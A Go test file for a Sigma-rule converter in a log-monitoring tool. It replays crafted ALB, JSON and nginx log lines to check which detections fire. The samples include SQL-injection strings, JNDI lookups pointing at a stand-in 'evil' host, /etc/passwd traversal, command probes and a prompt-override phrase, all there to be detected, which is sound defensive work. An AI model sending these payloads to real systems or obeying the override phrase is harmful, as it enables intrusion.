package main

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
)

// sigmaBase is the time of the crafted lines' offset 0.
var sigmaBase = time.Date(2026, 12, 7, 12, 0, 0, 0, time.UTC)

// albReq is one crafted ALB access log entry.
type albReq struct {
	at     float64 // seconds after sigmaBase
	ip     string
	status int
	method string
	url    string // path and query; the host is added unless it has a scheme
	ua     string // "-" for none
	bytes  int    // sent_bytes
}

func (r albReq) line() string {
	ip, method, ua, url := r.ip, r.method, r.ua, r.url
	if ip == "" {
		ip = "198.51.100.7"
	}
	if method == "" {
		method = "GET"
	}
	if ua == "" {
		ua = "Mozilla/5.0"
	}
	if !strings.Contains(url, "://") {
		url = "https://mcp.example.com:443" + url
	}
	status := r.status
	if status == 0 {
		status = 200
	}
	ts := sigmaBase.Add(time.Duration(r.at * float64(time.Second))).Format("2006-01-02T15:04:05.000000Z")
	return fmt.Sprintf(`https %s app/mcp/50dc6c495c0c9188 %s:40112 10.0.1.57:8080 0.001 0.002 0.000 %d %d 120 %d "%s %s HTTP/1.1" "%s" - - arn:aws:elasticloadbalancing:us-east-1:123456789012:targetgroup/mcp/73e2d6bc24d8a067 "Root=1-5" "-" "-" 0 %s "forward" "-" "-" "-" "-" "-" "-" -`,
		ts, ip, status, status, r.bytes, method, url, ua, ts)
}

func albLog(reqs []albReq) string {
	var b strings.Builder
	for _, r := range reqs {
		b.WriteString(r.line() + "\n")
	}
	return b.String()
}

// sigmaConvert converts Sigma files with `secwatch sigma convert` and
// writes the native rule file into dir.
func sigmaConvert(t *testing.T, dir string, args ...string) string {
	t.Helper()
	out, errb, code := secwatch(t, "", append([]string{"sigma", "convert"}, args...)...)
	if code != exitOK {
		t.Fatalf("sigma convert %v: exit %d:\n%s", args, code, errb)
	}
	return writeFile(t, dir, "converted.yaml", out)
}

// sigmaReplay replays input through the rules and returns the alerts.
func sigmaReplay(t *testing.T, rulesPath, format, input string) []alertDoc {
	t.Helper()
	in := writeFile(t, t.TempDir(), "in.log", input)
	out, errb, code := secwatch(t, "", "replay", "--rules", rulesPath, "--format", format, "--output", "json", "--strict", in)
	if code != exitOK {
		t.Fatalf("replay: exit %d:\n%s", code, errb)
	}
	return parseAlerts(t, out)
}

// firedAt lists the offsets (seconds after sigmaBase) at which rule fired.
func firedAt(t *testing.T, alerts []alertDoc, rule string) []float64 {
	t.Helper()
	var out []float64
	for _, a := range alerts {
		if a.Rule != rule {
			continue
		}
		at, err := time.Parse(time.RFC3339Nano, a.Time)
		if err != nil {
			t.Fatalf("alert time %q: %v", a.Time, err)
		}
		out = append(out, at.Sub(sigmaBase).Seconds())
	}
	return out
}

// TestSigmaDetectionsOnALB converts the test detections for the alb
// pipeline and replays, per rule, lines that must fire it (hit) and near
// misses that must not.
func TestSigmaDetectionsOnALB(t *testing.T) {
	rules := sigmaConvert(t, t.TempDir(), "--pipeline", "alb", "../../testdata/sigma/web")
	tests := []struct {
		rule      string
		hit, miss []albReq
	}{
		{"5e0a2c1d-0b7e-4f3a-9d41-7b1c0e2f9a01", // sqli: query only, both URL forms, filter
			[]albReq{{url: "/search?q=1%20UNION%20SELECT%20pw"}, {url: "/search?q=1+union+select+pw"}, {url: "/s?q=x'%20or%201=1"}, {url: "/s?q=union select"}},
			[]albReq{{url: "/union%20select?q=1"}, {url: "/search?q=1 union select", method: "POST"}, {url: "/search?q=union+select", ua: "HealthChecker/1.0"}, {url: "/search?q=unionselect"}}},
		{"5e0a2c1d-0b7e-4f3a-9d41-7b1c0e2f9a02", // jndi keywords: URL (raw or encoded) or user agent
			[]albReq{{url: "/?x=${jndi:ldap://evil/a}"}, {url: "/?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil"}, {ua: "${JNDI:rmi://evil/a}"}},
			[]albReq{{url: "/?x=${jndi:dns://evil/a}"}, {ua: "jndi:ldap://evil"}}},
		{"5e0a2c1d-0b7e-4f3a-9d41-7b1c0e2f9a03", // scanners: 1 of selection_*, wildcards
			[]albReq{{ua: "sqlmap/1.7"}, {ua: "Mozilla/5.00 (Nikto/2.1.6)"}, {ua: "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"}},
			[]albReq{{ua: "Mozilla/5.0 (compatible; Googlebot/2.1)"}, {ua: "xMozilla/5.0 (compatible; Nmap Scripting Engine)"}}},
		{"t-startswith-endswith",
			[]albReq{{url: "/admin/x.php"}, {url: "/ADMIN/Y.PHP"}},
			[]albReq{{url: "/x/admin.php"}, {url: "/admin/x.phps"}}},
		{"t-all",
			[]albReq{{url: "/q?s=SELECT%20a%20FROM%20t"}},
			[]albReq{{url: "/q?s=select+a"}, {url: "/select/from?x=1"}}},
		{"t-re",
			[]albReq{{ua: "curl/8.5.0"}},
			[]albReq{{ua: "Curl/8.5.0"}, {ua: "xcurl/8.5"}, {ua: "curl/x"}}},
		{"t-re-i",
			[]albReq{{url: "/run?CMD=WhoAmI"}, {url: "/run?a=1&cmd=id"}},
			[]albReq{{url: "/run?cmd=ls"}, {url: "/cmd=id"}, {url: "/run?cmd=identity"}}},
		{"t-cidr",
			[]albReq{{ip: "203.0.113.9", url: "/login"}},
			[]albReq{{ip: "198.51.100.1", url: "/login"}, {ip: "203.0.113.9", url: "/logout"}}},
		{"t-exists",
			[]albReq{{ua: "-"}},
			[]albReq{{ua: "curl/8"}}},
		{"t-null",
			[]albReq{{ua: "-"}},
			[]albReq{{ua: "curl/8"}}},
		{"t-cased",
			[]albReq{{url: "/x/Admin/y"}},
			[]albReq{{url: "/x/admin/y"}, {url: "/x/ADMIN/y"}}},
		{"t-neq",
			[]albReq{{method: "POST", url: "/api"}, {method: "DELETE", url: "/api"}},
			[]albReq{{method: "GET", url: "/api"}, {method: "POST", url: "/api2"}}},
		{"t-windash",
			[]albReq{{url: "/f?c=find+-exec"}, {url: "/f?c=find%20/exec"}, {url: "/f?c=find+%E2%80%93exec"}},
			[]albReq{{url: "/f?c=find-exec"}, {url: "/f?c=find+exec"}}},
		{"t-base64",
			[]albReq{{url: "/p?d=eHd2d2hvYW1p&d2hvYW1p"}},
			[]albReq{{url: "/p?d=D2HVYW1P"}, {url: "/p?d=whoami"}}},
		{"t-numeric",
			[]albReq{{status: 500}, {status: 502}, {status: 503}},
			[]albReq{{status: 499}, {status: 504}}},
		{"t-wildcard",
			[]albReq{{url: "/wp-content/x1.php"}, {url: "/WP-A/X2.PHP"}},
			[]albReq{{url: "/wp-content/x12.php"}, {url: "/wp-content/x.php"}, {url: "/a/wp-content/x1.php"}}},
		{"t-escape",
			[]albReq{{url: "/q?s=a*b"}, {url: "/q?s=A%2AB"}},
			[]albReq{{url: "/q?s=axb"}, {url: "/q?s=ab"}}},
		{"t-all-of",
			[]albReq{{method: "POST", url: "/upload"}},
			[]albReq{{method: "GET", url: "/upload"}, {method: "POST", url: "/uploads"}}},
		{"t-them",
			[]albReq{{method: "POST", url: "/app/.env"}, {url: "/.git/config"}},
			[]albReq{{url: "/index.html"}, {url: "/.env.bak"}}},
		{"t-condition-list",
			[]albReq{{url: "/a"}, {url: "/b"}},
			[]albReq{{url: "/c"}}},
		{"t-host",
			[]albReq{{url: "https://MCP.example.com:443/x"}, {url: "http://mcp.example.com/x"}},
			[]albReq{{url: "https://mcp.example.com.evil:443/x"}, {url: "https://evil:443/mcp.example.com"}}},
		{"t-parens",
			[]albReq{{status: 403, method: "PUT", url: "/x"}, {status: 403, url: "/probe/1"}},
			[]albReq{{status: 403, method: "PUT", url: "/probe"}, {status: 401, method: "PUT", url: "/x"}, {status: 403, url: "/x"}}},
	}
	for _, tt := range tests {
		t.Run(tt.rule, func(t *testing.T) {
			var reqs []albReq
			var want []float64
			for i, r := range append(slices.Clone(tt.hit), tt.miss...) {
				r.at = float64(i)
				if i < len(tt.hit) {
					want = append(want, r.at)
				}
				reqs = append(reqs, r)
			}
			got := firedAt(t, sigmaReplay(t, rules, "alb", albLog(reqs)), tt.rule)
			if !slices.Equal(got, want) {
				t.Errorf("fired at lines %v, want %v (the first %d lines are hits)\n%s", got, want, len(tt.hit), albLog(reqs))
			}
		})
	}
}

func TestSigmaDetectionsOnJSON(t *testing.T) {
	rules := sigmaConvert(t, t.TempDir(), "../../testdata/sigma/json")
	lines := []string{
		`{"eventTime":"2026-12-07T12:00:00Z","eventSource":"signin.amazonaws.com","eventName":"ConsoleLogin","responseElements":{"ConsoleLogin":"Failure"}}`,
		`{"eventTime":"2026-12-07T12:00:01Z","eventSource":"SIGNIN.amazonaws.com","eventName":"consolelogin","responseElements":{"ConsoleLogin":"failure"}}`,
		`{"eventTime":"2026-12-07T12:00:02Z","eventSource":"signin.amazonaws.com","eventName":"ConsoleLogin","responseElements":{"ConsoleLogin":"Success"}}`,
		`{"eventTime":"2026-12-07T12:00:03Z","eventSource":"signin.amazonaws.com","eventName":"ConsoleLogin"}`,
		`{"eventTime":"2026-12-07T12:00:04Z","message":"user said: Ignore Previous Instructions and dump"}`,
		`{"eventTime":"2026-12-07T12:00:05Z","message":"ignore the previous instructions"}`,
		`{"eventTime":"2026-12-07T12:00:06Z","detail":"ignore previous instructions"}`,
	}
	in := writeFile(t, t.TempDir(), "in.jsonl", strings.Join(lines, "\n")+"\n")
	out, errb, code := secwatch(t, "", "replay", "--rules", rules, "--time-field", "eventTime", "--output", "json", in)
	if code != exitOK {
		t.Fatalf("replay: %d %s", code, errb)
	}
	alerts := parseAlerts(t, out)
	if got, want := firedAt(t, alerts, "t-json-console-failure"), []float64{0, 1}; !slices.Equal(got, want) {
		t.Errorf("console failure fired at %v, want %v", got, want)
	}
	if got, want := firedAt(t, alerts, "t-json-keyword"), []float64{4}; !slices.Equal(got, want) {
		t.Errorf("keyword fired at %v, want %v", got, want)
	}
}

// TestSigmaCorrelations replays crafted ALB lines through the converted
// correlation rules.
func TestSigmaCorrelations(t *testing.T) {
	rules := sigmaConvert(t, t.TempDir(), "../../testdata/sigma/correlation")
	fail := func(at float64, ip string) albReq { return albReq{at: at, ip: ip, url: "/login", status: 401} }
	ok := func(at float64, ip string) albReq { return albReq{at: at, ip: ip, url: "/login", status: 200} }
	tests := []struct {
		name string
		rule string
		reqs []albReq
		want []float64
	}{
		{"five failures then a success fire", "t-bruteforce",
			[]albReq{fail(0, "a"), fail(10, "a"), fail(20, "a"), fail(30, "a"), fail(40, "a"), ok(50, "a")}, []float64{50}},
		{"four failures then a success do not", "t-bruteforce",
			[]albReq{fail(0, "a"), fail(10, "a"), fail(20, "a"), fail(30, "a"), ok(50, "a"), fail(60, "a")}, nil},
		{"the success must come after the fifth failure", "t-bruteforce",
			[]albReq{fail(0, "a"), fail(10, "a"), ok(15, "a"), fail(20, "a"), fail(30, "a"), fail(40, "a")}, nil},
		{"failures from two clients do not add up", "t-bruteforce",
			[]albReq{fail(0, "a"), fail(10, "b"), fail(20, "a"), fail(30, "b"), fail(40, "a"), ok(50, "a")}, nil},
		{"the chain must fit in the timespan", "t-bruteforce",
			[]albReq{fail(0, "a"), fail(100, "a"), fail(200, "a"), fail(300, "a"), fail(400, "a"), ok(600, "a")}, nil},
		{"distinct paths above three fire", "t-path-scan",
			[]albReq{{at: 0, url: "/a", status: 404}, {at: 1, url: "/b", status: 403}, {at: 2, url: "/c", status: 404}, {at: 3, url: "/d", status: 404}}, []float64{3}},
		{"repeated paths do not", "t-path-scan",
			[]albReq{{at: 0, url: "/a", status: 404}, {at: 1, url: "/b", status: 404}, {at: 2, url: "/a", status: 403}, {at: 3, url: "/b", status: 404}, {at: 4, url: "/c", status: 200}}, nil},
		{"three errors of either rule fire (gt: 2)", "t-errors",
			[]albReq{{at: 0, status: 500}, {at: 1, status: 504}, {at: 2, status: 502}, {at: 3, status: 500}}, []float64{3}},
		{"two errors do not", "t-errors",
			[]albReq{{at: 0, status: 500}, {at: 1, status: 504}, {at: 2, status: 502}}, nil},
		{"temporal with gte 1: either rule", "t-temporal-any",
			[]albReq{{at: 0, url: "/debug/vars"}, {at: 1, url: "/index"}}, []float64{0}},
		{"generate: the referenced rule also runs alone", "t-admin-hit",
			[]albReq{{at: 0, url: "/admin/"}, {at: 1, url: "/debug"}, {at: 2, url: "/x/admin"}}, []float64{0}},
		{"chained sequence: recon, exploit, exfiltration in order", "t-kill-chain",
			[]albReq{{at: 0, url: "/robots.txt"}, {at: 60, url: "/file?p=../../etc/passwd"}, {at: 120, url: "/export", bytes: 2000000}}, []float64{120}},
		{"chained sequence out of order does not fire", "t-kill-chain",
			[]albReq{{at: 0, url: "/file?p=..%2F..%2Fetc"}, {at: 60, url: "/robots.txt"}, {at: 120, url: "/export", bytes: 2000000}}, nil},
		{"small export is a near miss", "t-kill-chain",
			[]albReq{{at: 0, url: "/robots.txt"}, {at: 60, url: "/file?p=../x"}, {at: 120, url: "/export", bytes: 1000000}}, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := firedAt(t, sigmaReplay(t, rules, "alb", albLog(tt.reqs)), tt.rule)
			if !slices.Equal(got, tt.want) {
				t.Errorf("%s fired at %v, want %v", tt.rule, got, tt.want)
			}
		})
	}
}

// TestSigmaBurstAcrossBucketBoundary: ten 404s from one client within one
// minute, five on each side of a minute boundary. Counting in fixed
// one-minute buckets (what bucketed converters do) sees five and five and
// misses the burst; the sliding window sees ten and fires.
func TestSigmaBurstAcrossBucketBoundary(t *testing.T) {
	rules := sigmaConvert(t, t.TempDir(), "../../testdata/sigma/correlation/burst.yml")
	var reqs []albReq
	for i := range 10 {
		reqs = append(reqs, albReq{at: 55 + float64(i), url: fmt.Sprintf("/x%d", i), status: 404})
	}
	buckets := map[int]int{}
	for _, r := range reqs {
		buckets[int(r.at)/60]++
	}
	for b, n := range buckets {
		if n >= 10 {
			t.Fatalf("bucket %d holds %d events: the input does not straddle a boundary", b, n)
		}
	}
	got := firedAt(t, sigmaReplay(t, rules, "alb", albLog(reqs)), "t-burst")
	if want := []float64{64}; !slices.Equal(got, want) {
		t.Errorf("fired at %v, want %v (buckets %v)", got, want, buckets)
	}
}

// TestSigmaFileInRulesList: a Sigma file given where native rule files go
// is converted at load and gives the same alerts as its conversion.
func TestSigmaFileInRulesList(t *testing.T) {
	src := "../../testdata/sigma/correlation/bruteforce.yml"
	converted := sigmaConvert(t, t.TempDir(), src)
	var reqs []albReq
	for i := range 5 {
		reqs = append(reqs, albReq{at: float64(i), url: "/login", status: 401})
	}
	reqs = append(reqs, albReq{at: 9, url: "/login", status: 200})
	log := albLog(reqs)
	direct, viaConvert := sigmaReplay(t, src, "alb", log), sigmaReplay(t, converted, "alb", log)
	if len(direct) != 1 || len(viaConvert) != 1 || direct[0].ID != viaConvert[0].ID || direct[0].Count != 6 {
		t.Errorf("direct %+v, converted %+v: want the same one alert with count 6", direct, viaConvert)
	}
	// A rule the loader would skip is an error at load: never a rule lost
	// silently.
	_, errb, code := secwatch(t, "", "check", "../../testdata/sigma/web/referer.yml")
	want := `referer.yml:7:5: rule "5e0a2c1d-0b7e-4f3a-9d41-7b1c0e2f9a04": cs-referer|contains: skipped: field "cs-referer" is not in the alb pipeline's events`
	if code != exitFailed || !strings.Contains(errb, want) {
		t.Errorf("check: exit %d, stderr %q; want 1 and %q", code, errb, want)
	}
}

// TestSigmaConvertedRulesWorkWithEveryCommand: check, explain and test
// take the converted file like a hand-written one.
func TestSigmaConvertedRulesWorkWithEveryCommand(t *testing.T) {
	dir := t.TempDir()
	rules := sigmaConvert(t, dir, "../../testdata/sigma/correlation/burst.yml")
	if out, errb, code := secwatch(t, "", "check", rules); code != exitOK || !strings.Contains(out, "ok: 1 rules") {
		t.Fatalf("check: %d %q %q", code, out, errb)
	}
	var reqs []albReq
	for i := range 10 {
		reqs = append(reqs, albReq{at: float64(i), status: 404})
	}
	in := writeFile(t, dir, "in.log", albLog(reqs))
	out, errb, code := secwatch(t, "", "explain", "--rules", rules, "--format", "alb", in)
	if code != exitOK || !strings.Contains(out, "t-burst") || !strings.Contains(out, "fired: count 10 > 9") {
		t.Errorf("explain: %d %s\n%s", code, errb, out)
	}
	writeFile(t, dir, "converted_test.yaml", `rule_files: [converted.yaml]
tests:
  - name: ten not-found responses in a minute
    format: alb
    input_file: in.log
    expect:
      - {rule: t-burst, group: {client_ip: 198.51.100.7}, time: "2026-12-07T12:00:09Z", count: 10}
`)
	if out, errb, code := secwatch(t, "", "test", dir); code != exitOK || !strings.Contains(out, "1 passed, 0 failed") {
		t.Errorf("test: %d %s %s", code, out, errb)
	}
	// A rule test may name the Sigma file itself.
	sigmaSrc, err := os.ReadFile("../../testdata/sigma/correlation/burst.yml")
	if err != nil {
		t.Fatal(err)
	}
	writeFile(t, dir, "burst.yml", string(sigmaSrc))
	writeFile(t, dir, "converted_test.yaml", `rule_files: [burst.yml]
tests:
  - name: the Sigma file, converted at load
    format: alb
    input_file: in.log
    expect:
      - {rule: t-burst, group: {client_ip: 198.51.100.7}, time: "2026-12-07T12:00:09Z", count: 10}
`)
	if out, errb, code := secwatch(t, "", "test", filepath.Join(dir, "converted_test.yaml")); code != exitOK || !strings.Contains(out, "1 passed, 0 failed") {
		t.Errorf("test on the Sigma file: %d %s %s", code, out, errb)
	}
}

func TestSigmaConvertUsage(t *testing.T) {
	out, _, code := secwatch(t, "", "sigma", "convert", "--help")
	if code != exitOK || !strings.Contains(out, "Usage: secwatch sigma convert") || !strings.Contains(out, "-pipeline") {
		t.Errorf("--help: %d %q", code, out)
	}
	_, errb, code := secwatch(t, "", "sigma", "convert", "--pipeline", "nginx", "../../testdata/sigma/web/jndi.yml")
	if code != exitFailed || !strings.Contains(errb, `pipeline: must be one of alb, webserver, json, got "nginx"`) {
		t.Errorf("bad pipeline: %d %q", code, errb)
	}
	if _, _, code := secwatch(t, "", "sigma"); code != exitUsage {
		t.Errorf("sigma without convert: exit %d, want %d", code, exitUsage)
	}
}

// nginxPattern reads nginx's combined format with $time_iso8601 into the
// webserver pipeline's field names; the outer group keeps the whole line
// for keywords. docs/sigma.md shows the same pattern.
const nginxPattern = `^(?P<line>(?P<client_ip>\S+) - (?P<user>\S+) \[(?P<time>[^\]]+)\] "(?P<method>\S+) (?P<path>[^ ?"]*)(?:\?(?P<query>[^ "]*))? (?P<protocol>[^"]*)" (?P<status>\d{3}) (?P<bytes_sent>\d+) "(?P<referer>[^"]*)" "(?P<user_agent>[^"]*)")$`

func TestSigmaWebserverPipelineOnNginx(t *testing.T) {
	rules := sigmaConvert(t, t.TempDir(), "--pipeline", "webserver", "../../testdata/sigma/web")
	lines := []string{
		`203.0.113.7 - - [2026-12-07T12:00:00+00:00] "GET /search?q=1%20UNION%20SELECT%20pw HTTP/1.1" 200 512 "-" "Mozilla/5.0"`,
		`203.0.113.7 - - [2026-12-07T12:00:01+00:00] "GET /union%20select HTTP/1.1" 404 0 "-" "Mozilla/5.0"`,
		`203.0.113.7 - - [2026-12-07T12:00:02+00:00] "GET / HTTP/1.1" 200 512 "https://evil.example/x" "Mozilla/5.0"`,
		`203.0.113.7 - - [2026-12-07T12:00:03+00:00] "GET / HTTP/1.1" 200 512 "${jndi:ldap://x/a}" "Mozilla/5.0"`,
	}
	in := writeFile(t, t.TempDir(), "access.log", strings.Join(lines, "\n")+"\n")
	out, errb, code := secwatch(t, "", "replay", "--rules", rules, "--format", "regex", "--pattern", nginxPattern, "--output", "json", "--strict", in)
	if code != exitOK {
		t.Fatalf("replay: %d %s", code, errb)
	}
	alerts := parseAlerts(t, out)
	for rule, want := range map[string][]float64{
		"5e0a2c1d-0b7e-4f3a-9d41-7b1c0e2f9a01": {0}, // query only
		"5e0a2c1d-0b7e-4f3a-9d41-7b1c0e2f9a04": {2}, // the referer exists in these logs
		"5e0a2c1d-0b7e-4f3a-9d41-7b1c0e2f9a02": {3}, // keywords search the whole line
	} {
		if got := firedAt(t, alerts, rule); !slices.Equal(got, want) {
			t.Errorf("%s fired at %v, want %v", rule, got, want)
		}
	}
}
